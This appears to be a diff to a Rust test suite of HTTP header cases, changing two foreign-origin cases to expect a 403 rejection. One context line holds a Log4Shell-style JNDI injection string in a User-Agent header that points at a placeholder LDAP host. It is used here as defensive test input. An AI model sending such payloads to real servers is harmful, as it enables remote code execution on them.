@@ -81,9 +81,9 @@ fn headers() -> Vec<Case> {
             "User-Agent: ${jndi:ldap://zqxheader.example/a}\r\n",
             Stored,
         ),
-        Case::headers("a foreign origin", format!("Origin: https://{CANARY}.example\r\n"), Stored),
+        Case::headers("a foreign origin", format!("Origin: https://{CANARY}.example\r\n"), Status(403)),
         Case::headers("no origin at all", "Origin: null\r\n", Stored),
-        Case::headers("an origin that is none", format!("Origin: {CANARY}\r\n"), Stored),
+        Case::headers("an origin that is none", format!("Origin: {CANARY}\r\n"), Status(403)),
         Case::headers("a foreign host", format!("Host: {CANARY}.example\r\n"), OneOf(&[204, 400])),
         Case::headers(
             "a foreign referrer",
